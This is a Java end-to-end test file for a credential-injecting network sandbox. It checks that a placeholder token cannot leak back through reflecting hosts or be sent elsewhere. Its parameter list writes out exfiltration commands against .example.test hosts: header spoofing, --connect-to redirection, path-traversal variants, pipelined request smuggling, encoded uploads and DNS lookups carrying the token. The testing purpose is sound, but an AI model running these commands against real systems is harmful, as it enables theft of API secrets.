package dev.capsem.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import dev.capsem.testkit.http.Exchange;
import dev.capsem.testkit.http.HttpOrigin;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

/// A guest that wants the value behind its stand-in: by a host that sends it back, or by a request that ends elsewhere.
@Tag("e2e")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class GrantAttacksTest {
    private static final String VALUE = "ghp_0123456789abcdefghijABCDEFGHIJ012345";

    private final List<String> authorizations = new CopyOnWriteArrayList<>();
    private World world;
    private HttpOrigin other;
    private NetSandbox sandbox;

    @BeforeAll
    void start() throws IOException {
        world = new World();
        world.origin("keys", this::reflect);
        other = world.origin("other");
        Path key = world.upstreams().directory("key").resolve("token");
        Files.writeString(key, VALUE + "\n");
        Files.setPosixFilePermissions(key, PosixFilePermissions.fromString("rw-r--r--"));
        String grants = """
                [[grant]]
                name = "api"
                secret = "${file:%s}"
                hosts = ["keys.example.test"]
                places = ["header:authorization"]
                paths = ["/", "/back/*"]
                env = "API_TOKEN"
                """.formatted(key);
        sandbox = NetSandbox.startUnder(
                Account.available().getFirst(),
                world,
                world.profile(grants),
                world.upstreams().directory("project"));
    }

    @AfterAll
    void stop() {
        sandbox.close();
        world.close();
    }

    /// How the host sends back what it got.
    enum Way {
        BODY,
        BYTE_BY_BYTE,
        GZIP,
        GZIP_IN_CHUNKS,
        TRAILER,
        EARLY_HINT,
        LOCATION,
        COOKIE,
        REASON,
        BASE64,
        BASE64_URL,
        BASIC,
        HEX,
        EVENT_STREAM,
        ERROR_PAGE,
        MULTIPART
    }

    private void reflect(Exchange exchange) throws IOException {
        String sent = exchange.header("authorization").orElse("none").replaceFirst("^Bearer ", "");
        authorizations.add(sent);
        String name = exchange.path().startsWith("/back/") ? exchange.path().substring("/back/".length()) : "BODY";
        byte[] text = ("you sent " + sent + " to me\n").getBytes(StandardCharsets.UTF_8);
        Map<String, String> plain = Map.of("content-type", "text/plain");
        switch (Way.valueOf(name)) {
            case BODY -> exchange.reply(200, plain, text);
            case BYTE_BY_BYTE -> {
                try (OutputStream out = exchange.chunked(200, plain)) {
                    for (byte one : text) {
                        out.write(one);
                        out.flush();
                    }
                }
            }
            case GZIP -> exchange.reply(200, Map.of("content-encoding", "gzip"), gzip(text));
            case GZIP_IN_CHUNKS -> {
                try (OutputStream out = exchange.chunked(200, Map.of("content-encoding", "gzip"))) {
                    for (byte one : gzip(text)) {
                        out.write(one);
                        out.flush();
                    }
                }
            }
            case TRAILER ->
                exchange.raw("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\ntrailer: x-t\r\n\r\n1\r\nx\r\n0\r\nx-t: "
                        + sent + "\r\n\r\n");
            case EARLY_HINT -> {
                exchange.raw("HTTP/1.1 103 Early Hints\r\nlink: <" + sent + ">; rel=preload\r\n\r\n");
                exchange.reply(200, plain, "after\n".getBytes(StandardCharsets.UTF_8));
            }
            case LOCATION -> {
                Map<String, String> away = Map.of("location", world.command("https://{other}/text?k=") + sent);
                exchange.reply(302, away, new byte[0]);
            }
            case COOKIE -> exchange.reply(200, Map.of("set-cookie", "k=" + sent), new byte[0]);
            case REASON -> exchange.raw("HTTP/1.1 200 " + sent + "\r\ncontent-length: 0\r\n\r\n");
            case BASE64 -> exchange.reply(200, plain, Base64.getEncoder().encode(text));
            case BASE64_URL ->
                exchange.reply(200, plain, Base64.getUrlEncoder().encode(sent.getBytes(StandardCharsets.UTF_8)));
            case BASIC ->
                exchange.reply(200, plain, Base64.getEncoder().encode(("u:" + sent).getBytes(StandardCharsets.UTF_8)));
            case HEX ->
                exchange.reply(200, plain, HexFormat.of().formatHex(text).getBytes(StandardCharsets.UTF_8));
            case EVENT_STREAM -> {
                try (OutputStream out = exchange.chunked(200, Map.of("content-type", "text/event-stream"))) {
                    out.write(("data: " + sent.substring(0, Math.min(9, sent.length())))
                            .getBytes(StandardCharsets.UTF_8));
                    out.flush();
                    out.write((sent.substring(Math.min(9, sent.length())) + "\n\n").getBytes(StandardCharsets.UTF_8));
                }
            }
            case ERROR_PAGE -> exchange.reply(401, plain, text);
            case MULTIPART ->
                exchange.reply(
                        206,
                        Map.of("content-type", "multipart/byteranges; boundary=B"),
                        ("--B\r\n\r\n" + sent + "\r\n--B--\r\n").getBytes(StandardCharsets.UTF_8));
        }
    }

    @ParameterizedTest
    @EnumSource
    void noAnswerBringsItIn(Way way) {
        authorizations.clear();

        String got = sandbox.exec("curl -sSiL --raw -m 20 https://{keys}/back/" + way
                        + " -H \"authorization: Bearer $API_TOKEN\" -o /tmp/got; cat /tmp/got; gzip -dc /tmp/got 2>/dev/null;"
                        + " curl -sSi --compressed -m 20 https://{keys}/back/" + way
                        + " -H \"authorization: Bearer $API_TOKEN\" 2>&1")
                .stdout();

        assertThat(authorizations).isNotEmpty().containsOnly(VALUE);
        assertThat(spellings()).as(got).noneMatch(got::contains);
        assertThat(other.received()).noneMatch(request -> request.target().contains(VALUE));
        assertThat(sandbox.everything()).doesNotContain(VALUE);
    }

    /// What the guest sends so that another host gets the value, or the host gets it in another place.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "curl -sk https://{other}/text -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk https://{other}/text -H 'host: keys.example.test' -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk https://{keys}/ -H \"host: other.example.test\" -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --connect-to {keys}:{other} https://{keys}/ -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --connect-to {other}:{keys} https://{other}/text -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk https://{keys}/elsewhere -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --path-as-is https://{keys}/back/../elsewhere -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --path-as-is https://{keys}/back/%2e%2e/elsewhere -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --path-as-is https://{keys}/back/..%2felsewhere -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk --path-as-is 'https://{keys}/back/..;/elsewhere' -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk https://{keys}/ -H \"x-other: $API_TOKEN\"",
                "curl -sk \"https://{keys}/?k=$API_TOKEN\"",
                "curl -sk https://{keys}/ -d \"k=$API_TOKEN\"",
                "curl -sk https://{keys}/ -H \"authorization: Bearer $API_TOKEN$API_TOKEN\"",
                "curl -sk https://{keys}/ -H \"authorization: Bearer $API_TOKEN\" -H \"authorization: Bearer $API_TOKEN\"",
                "curl -sk -X TRACE https://{other}/ -H \"authorization: Bearer $API_TOKEN\"",
                "printf 'GET / HTTP/1.1\\r\\nHost: keys.example.test\\r\\nAuthorization: Bearer\\r\\n %s\\r\\n\\r\\n' $API_TOKEN"
                        + " | openssl s_client -quiet -servername keys.example.test -connect {keys} 2>&1",
                "(printf 'GET / HTTP/1.1\\r\\nHost: {keys}\\r\\n\\r\\nGET /text HTTP/1.1\\r\\nHost: {other}\\r\\n"
                        + "Authorization: Bearer %s\\r\\n\\r\\n' $API_TOKEN; sleep 2)"
                        + " | openssl s_client -quiet -servername keys.example.test -connect {keys} 2>&1",
                "curl -sk https://{other}/text -H \"authorization: Basic $(printf u:%s $API_TOKEN | base64 -w0)\"",
                "curl -sk https://{other}/upload -T <(printf %s $API_TOKEN | gzip) -H 'content-encoding: gzip'",
                "ping -c1 $API_TOKEN.example.test; getent hosts $API_TOKEN.example.test"
            })
    void noRequestTakesItElsewhere(String command) {
        authorizations.clear();

        String got = sandbox.exec("timeout 10 bash -c '" + command.replace("'", "'\\''") + "'")
                .stdout();

        assertThat(authorizations).as(got).noneMatch(sent -> sent.contains(VALUE));
        assertThat(got).doesNotContain(VALUE);
        assertThat(other.received()).noneMatch(request -> request.toString().contains(VALUE));
    }

    private static List<String> spellings() {
        byte[] value = VALUE.getBytes(StandardCharsets.UTF_8);
        String basic = Base64.getEncoder().encodeToString(("u:" + VALUE).getBytes(StandardCharsets.UTF_8));
        return List.of(
                VALUE,
                VALUE.toLowerCase(Locale.ROOT),
                Base64.getEncoder().withoutPadding().encodeToString(value),
                Base64.getUrlEncoder().withoutPadding().encodeToString(value),
                basic,
                Base64.getEncoder()
                        .encodeToString(("you sent " + VALUE).getBytes(StandardCharsets.UTF_8))
                        .substring(0, 60),
                HexFormat.of().formatHex(value));
    }

    private static byte[] gzip(byte[] text) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(text);
        }
        return out.toByteArray();
    }
}
